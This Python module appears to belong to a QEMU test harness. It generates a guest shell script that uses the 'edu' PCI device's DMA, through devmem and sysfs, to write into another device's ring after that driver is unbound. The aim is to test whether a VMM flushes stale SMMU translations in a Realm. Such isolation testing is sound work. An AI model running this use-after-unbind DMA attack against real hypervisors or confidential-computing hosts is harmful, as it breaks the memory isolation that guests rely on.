"""How does one of QEMU's devices come to use a page that was taken from it?

QEMU's devices behave; but `edu` reads and writes wherever it is told, and all devices of a Realm
share one stage-2 table. So it is told the address of another device's ring: it reads the ring
while that device's driver has it, which leaves the translation in the SMMU's TLB; the driver is
unbound, which makes the page private; then it writes there. A VMM that made the SMMU forget the
translation sees a fault. Otherwise the write arrives in the memory that backed the shared page,
which is looked at from outside (`knock`).
"""

from __future__ import annotations

from topbit.machine.qemu import knock
from topbit.machine.qemu.workload import Step

BYTES = 16


def use_after_unbind(edu: str, victim: str, shared_bit: int) -> Step:
    """Have `edu` write to the ring of `victim` after that one's driver gave it back.

    Registers of edu: QEMU docs/specs/edu.rst; its own memory is at 0x40000.
    """
    page = shared_bit | knock.ADDRESS
    script = f"""
cd /sys/bus/pci/devices/{edu} || exit 1
echo 1 >enable
printf '\\006\\000' | dd of=config bs=1 seek=4 conv=notrunc 2>/dev/null  # memory, bus master
read -r base rest <resource
at() {{ printf '0x%x' $((base + {shared_bit} + $1)); }}
move() {{  # FROM TO COMMAND: 1 reads memory, 3 writes it
    devmem $(at 0x80) 64 $1 && devmem $(at 0x88) 64 $2 && devmem $(at 0x90) 64 {BYTES} &&
        devmem $(at 0x98) 64 $3 && usleep 300000
}}
driver=$(readlink -f /sys/bus/pci/devices/{victim}/driver) || exit 1
ring=0x$(sed -n 's/.* dma_alloc: {victim} .*dma_addr=\\([0-9a-f]*\\) .*/\\1/p' \\
    /sys/kernel/tracing/trace | tail -n 1)
move $ring 0x40000 1 || exit 1
echo {victim} >$driver/unbind
devmem 0x{page + knock.WATCH:x} 64 $ring
move 0x40000 $ring 3
echo ring $ring reached $(devmem 0x{page + knock.LOOK:x} 32)
echo {victim} >$driver/bind
"""
    return Step(f"stale-{edu.replace(':', '-').replace('.', '-')}", script, 30)
